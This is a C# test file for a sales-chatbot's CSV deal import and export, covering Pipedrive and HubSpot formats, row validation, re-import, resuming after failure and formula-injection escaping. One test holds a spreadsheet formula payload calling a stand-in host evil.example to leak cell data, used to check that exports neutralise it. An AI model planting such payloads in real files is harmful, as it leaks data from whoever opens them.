using System.Globalization;
using Microsoft.Extensions.DependencyInjection;
using SalesBot.Deals;
using SalesBot.Import;
using SalesBot.Tests.Infrastructure;

namespace SalesBot.Tests.Import;

/// <summary>CSV import and export against Azurite, with export files of the shapes Pipedrive and HubSpot produce.</summary>
public class ImportTests(AppFixture fixture) : IClassFixture<AppFixture>
{
    private readonly SalesBotApp _app = fixture.App;

    private static string Sample(string name) => Path.Combine(SharedFiles.Repository, "tests/SalesBot.Tests/Import/Samples", name);

    /// <summary>The sample files' owners, as they appear when they write to the bot.</summary>
    private static readonly (string Id, string Name)[] People = [("u-ann", "Ann Berg"), ("u-bob", "Bob Dahl"), ("u-carla", "Carla Holm"), ("u-david", "David Lund")];

    private async Task<ImportResult> ImportAsync(string tenant, string path, CsvMapping? mapping = null, bool skip = false, bool meetPeople = true)
    {
        if (meetPeople)
        {
            foreach (var (id, name) in People)
            {
                await _app.SayAsync("deal help", id, name, tenant);
            }
        }

        using var reader = new StreamReader(path);
        return await _app.Service<DealImporter>().ImportAsync(tenant, reader, mapping, skip, TextWriter.Null, CancellationToken.None);
    }

    private Task<IReadOnlyList<Deal>> DealsAsync(string tenant) =>
        _app.Service<IDealStore>().ListAsync(tenant, new DealQuery(OpenOnly: false, Max: 10_000), CancellationToken.None);

    private static Dictionary<string, int> CountsOfColumn(string path, int column) =>
        File.ReadLines(path).Skip(1).GroupBy(l => l.Split(',')[column]).ToDictionary(g => g.Key, g => g.Count());

    [Fact]
    public async Task A_pipedrive_export_imports_with_stages_owners_amounts_and_stage_dates_kept()
    {
        var tenant = AppFixture.NewTenant();
        var result = await ImportAsync(tenant, Sample("pipedrive-deals.csv"));

        Assert.Empty(result.Errors);
        Assert.Equal(220, result.Imported);
        var deals = await DealsAsync(tenant);
        Assert.Equal(220, deals.Count);
        var counts = CountsOfColumn(Sample("pipedrive-deals.csv"), column: 9);
        Assert.Equal(counts["open"], deals.Count(d => d.Status == DealStatus.Open));
        Assert.Equal(counts["won"], deals.Count(d => d.Status == DealStatus.Won));
        Assert.Equal(counts["lost"], deals.Count(d => d.Status == DealStatus.Lost));

        var coastal = deals.Single(d => d.Name == "Coastal Labs ApS");
        Assert.Equal(("prospecting", 250_000m, "DKK", "Carla Holm", "u-carla"), (coastal.Stage, coastal.Amount!.Value.Amount, coastal.Amount.Value.Currency, coastal.Owner.Name, coastal.Owner.Id));
        Assert.Equal(new DateTimeOffset(2026, 1, 20, 10, 0, 0, TimeSpan.Zero), coastal.StageEnteredAt);
        Assert.Equal(new DateTimeOffset(2025, 12, 14, 10, 0, 0, TimeSpan.Zero), coastal.CreatedAt);
        Assert.Equal(new DateOnly(2026, 5, 15), coastal.CloseDate);
        var cedar = deals.Single(d => d.Name == "Cedar Robotics Inc");
        Assert.Equal("present-offer", cedar.Stage);
        Assert.Equal([("prospecting", new DateTimeOffset(2025, 6, 9, 9, 0, 0, TimeSpan.Zero)), ("present-offer", new DateTimeOffset(2026, 8, 11, 9, 0, 0, TimeSpan.Zero))],
            cedar.StageLog.Select(s => (s.Stage, s.At)));
        Assert.All(deals.Where(d => d.Status == DealStatus.Lost), d => Assert.False(string.IsNullOrEmpty(d.LostReason)));

        (await _app.SayAsync("deal show Coastal Labs", "u-carla", "Carla Holm", tenant)).ShouldSucceed("Prospecting (10 %)", "DKK 250,000", "Carla Holm");
    }

    [Fact]
    public async Task A_hubspot_export_imports_with_its_stage_names_mapped()
    {
        var tenant = AppFixture.NewTenant();
        var result = await ImportAsync(tenant, Sample("hubspot-deals.csv"));

        Assert.Empty(result.Errors);
        Assert.Equal(210, result.Imported);
        var deals = await DealsAsync(tenant);
        var stages = File.ReadLines(Sample("hubspot-deals.csv")).Skip(1).Select(l => l.Split(',')[2]).ToArray();
        Assert.Equal(stages.Count(s => s == "Closed won"), deals.Count(d => d.Status == DealStatus.Won));
        Assert.Equal(stages.Count(s => s == "Closed lost"), deals.Count(d => d.Status == DealStatus.Lost));
        Assert.Equal(stages.Count(s => s == "Contract sent"), deals.Count(d => d.IsOpen && d.Stage == "handle-objections"));
        var baltic = deals.Single(d => d.Name == "Baltic Energy ApS");
        Assert.Equal(("handle-objections", 40_000m, "Ann Berg"), (baltic.Stage, baltic.Amount!.Value.Amount, baltic.Owner.Name));
        Assert.Equal(new DateTimeOffset(2026, 8, 11, 3, 0, 0, TimeSpan.Zero), baltic.StageEnteredAt);
    }

    [Fact]
    public async Task Bad_rows_are_reported_cell_by_cell_and_nothing_is_imported_unless_asked()
    {
        var tenant = AppFixture.NewTenant();
        var path = Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString("N") + ".csv");
        await File.WriteAllLinesAsync(path,
        [
            "Deal - ID,Deal - Title,Deal - Value,Deal - Currency,Deal - Stage,Deal - Owner,Deal - Expected close date,Deal - Deal created,Deal - Last stage change,Deal - Status",
            "1,Good Co,1000,DKK,Lead In,Ann Berg,2026-12-01,2026-01-01,2026-01-02,open",
            "2,Bad Amount Co,lots,DKK,Lead In,Ann Berg,2026-12-01,2026-01-01,2026-01-02,open",
            "3,Odd Stage Co,1000,DKK,Qualification,Ann Berg,2026-12-01,2026-01-01,2026-01-02,open",
            "4,Bad Date Co,1000,DKK,Lead In,Ann Berg,31-12-2026,2026-01-01,2026-01-02,open",
            "5,,1000,XYZ,Lead In,Ann Berg,2026-12-01,2026-01-01,2026-01-02,maybe",
        ]);

        var result = await ImportAsync(tenant, path);

        Assert.False(result.Applied);
        Assert.Equal(
            [
                "row 3, column \"Deal - Value\", value \"lots\": not an amount",
                "row 4, column \"Deal - Stage\", value \"Qualification\": unknown stage; the stages are Prospecting, Contact, Identify need, Present offer, Handle objections (map others in the mapping file's Stages)",
                "row 5, column \"Deal - Expected close date\", value \"31-12-2026\": not a date (use yyyy-MM-dd or yyyy-MM-dd HH:mm:ss)",
                "row 6, column \"Deal - Title\", value \"\": a deal needs a name",
                "row 6, column \"Deal - Currency\", value \"XYZ\": not a supported currency code",
                "row 6, column \"Deal - Status\", value \"maybe\": the status must be open, won or lost",
            ],
            result.Errors.Select(e => e.ToString()));
        Assert.Empty(await DealsAsync(tenant));

        var skipping = await ImportAsync(tenant, path, skip: true);
        Assert.Equal(1, skipping.Imported);
        Assert.Equal("Good Co", Assert.Single(await DealsAsync(tenant)).Name);
    }

    [Fact]
    public async Task Importing_the_same_file_again_adds_nothing()
    {
        var tenant = AppFixture.NewTenant();
        await ImportAsync(tenant, Sample("hubspot-deals.csv"));

        var again = await ImportAsync(tenant, Sample("hubspot-deals.csv"));

        Assert.Equal((0, 210), (again.Imported, again.AlreadyThere));
        Assert.Equal(210, (await DealsAsync(tenant)).Count);
    }

    [Fact]
    public async Task Export_then_import_gives_the_same_deals()
    {
        var (first, second) = (AppFixture.NewTenant(), AppFixture.NewTenant());
        await ImportAsync(first, Sample("pipedrive-deals.csv"));
        var importer = _app.Service<DealImporter>();

        var exported = new StringWriter(CultureInfo.InvariantCulture);
        Assert.Equal(220, await importer.ExportAsync(first, exported, CancellationToken.None));
        var path = Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString("N") + ".csv");
        await File.WriteAllTextAsync(path, exported.ToString());
        var result = await ImportAsync(second, path, CsvMapping.SalesBot, meetPeople: false);
        var reexported = new StringWriter(CultureInfo.InvariantCulture);
        await importer.ExportAsync(second, reexported, CancellationToken.None);

        Assert.Equal(220, result.Imported);
        static IEnumerable<string> WithoutIds(string csv) => csv.Split('\n').Select(l => l.Contains(',', StringComparison.Ordinal) ? l[(l.IndexOf(',', StringComparison.Ordinal) + 1)..] : l);
        Assert.Equal(WithoutIds(exported.ToString()), WithoutIds(reexported.ToString()));
    }

    [Fact]
    public async Task Exported_names_cannot_run_as_spreadsheet_formulas_and_import_back_unchanged()
    {
        var (first, second) = (AppFixture.NewTenant(), AppFixture.NewTenant());
        string[] names = ["=HYPERLINK(\"http://evil.example?\"&B2,\"x\")", "@SUM(A1:A9)", "+45 Telecom", "-minus Co", "'=already quoted", "Plain Co"];
        foreach (var name in names)
        {
            (await _app.SayAsync($"deal new \"{name.Replace("\"", "'", StringComparison.Ordinal)}\" 10k", "u-ann", "Ann", first)).ShouldSucceed();
        }

        var stored = (await DealsAsync(first)).Select(d => d.Name).Order(StringComparer.Ordinal).ToArray();
        var exported = new StringWriter(CultureInfo.InvariantCulture);
        await _app.Service<DealImporter>().ExportAsync(first, exported, CancellationToken.None);

        using var csv = new CsvHelper.CsvParser(new StringReader(exported.ToString()), CultureInfo.InvariantCulture);
        var cells = new List<string>();
        while (csv.Read())
        {
            cells.AddRange(csv.Record!);
        }

        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@');
        Assert.Contains("'=already quoted".Insert(0, "'"), cells);

        using var reader = new StringReader(exported.ToString());
        var result = await _app.Service<DealImporter>().ImportAsync(second, reader, CsvMapping.SalesBot, false, TextWriter.Null, CancellationToken.None);
        Assert.Empty(result.Errors);
        Assert.Equal(stored, (await DealsAsync(second)).Select(d => d.Name).Order(StringComparer.Ordinal));
    }

    /// <summary>A file in SalesBot's own layout: open, won and lost deals of four owners, with awkward names.</summary>
    private static async Task<(string Path, string[] Names, int[] Events)> TeamFileAsync(int rows)
    {
        var path = Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString("N") + ".csv");
        string[] stages = ["Prospecting", "Contact", "Identify need", "Present offer", "Handle objections"];
        var lines = new List<string> { "Id,Name,Amount,Currency,Segment,Stage,Status,Owner,Owner id,Expected close,Created,Stage entered,Closed,Lost reason" };
        var names = new string[rows];
        var events = new int[rows];
        for (var i = 0; i < rows; i++)
        {
            var (id, owner) = People[i % People.Length];
            var status = (i % 5) switch { 3 => "won", 4 => "lost", _ => "open" };
            var stage = stages[i % stages.Length];
            names[i] = i % 7 == 0 ? $"Ægir & Søn, \"Nord\" <b>{i}</b> {new string('x', 150)}" : $"Kunde {i} A/S";
            events[i] = 1 + (stage == "Prospecting" ? 0 : 1) + (status == "open" ? 0 : 1);
            var closed = status == "open" ? "" : "2026-10-15 12:00:00";
            lines.Add($"R{i},\"{names[i].Replace("\"", "\"\"", StringComparison.Ordinal)}\",{1000 + i},DKK,smb,{stage},{status},{owner},{id},2027-01-31,2026-03-02 09:00:00,2026-06-01 09:00:00,{closed},{(status == "lost" ? "price" : "")}");
        }

        await File.WriteAllLinesAsync(path, lines);
        return (path, names, events);
    }

    [Fact]
    public async Task An_import_cut_off_half_way_goes_on_where_it_stopped_when_run_again_and_adds_nothing_twice()
    {
        const int Rows = 150;
        var cut = new BatchCutter(allowed: 4);
        await using var app = await SalesBotApp.StartAsync(services: s => s.AddSingleton<Azure.Core.Pipeline.HttpPipelinePolicy>(cut));
        var tenant = AppFixture.NewTenant();
        var (path, names, events) = await TeamFileAsync(Rows);
        async Task<ImportResult> RunAsync(TextWriter progress)
        {
            using var reader = new StreamReader(path);
            return await app.Service<DealImporter>().ImportAsync(tenant, reader, null, false, progress, CancellationToken.None);
        }

        Task<IReadOnlyList<Deal>> StoredAsync() => app.Service<IDealStore>().ListAsync(tenant, new DealQuery(OpenOnly: false, Max: 10_000), CancellationToken.None);

        await Assert.ThrowsAsync<StorageUnavailableException>(() => RunAsync(TextWriter.Null));
        var before = (await StoredAsync()).Count;
        Assert.InRange(before, 1, Rows - 1);

        cut.Restore();
        var progress = new StringWriter(CultureInfo.InvariantCulture);
        var result = await RunAsync(progress);

        Assert.Equal((Rows - before, before, 0), (result.Imported, result.AlreadyThere, result.Errors.Count));
        Assert.Contains($"{before} of {Rows} rows were imported before; importing the other {Rows - before}", progress.ToString(), StringComparison.Ordinal);
        Assert.Contains($"{Rows}/{Rows} rows", progress.ToString(), StringComparison.Ordinal);
        var deals = await StoredAsync();
        Assert.Equal(names.Order(StringComparer.Ordinal), deals.Select(d => d.Name).Order(StringComparer.Ordinal));
        var store = app.Service<IDealStore>();
        foreach (var deal in deals)
        {
            var i = Array.IndexOf(names, deal.Name);
            Assert.Equal(events[i], (await store.HistoryAsync(tenant, deal.Id, 50, CancellationToken.None)).Count);
        }

        (await app.SayAsync("deal show \"Kunde 1 A/S\"", "u-bob", "Bob Dahl", tenant)).ShouldSucceed("Kunde 1 A/S", "Contact (20 %)", "DKK 1,001");
    }
}
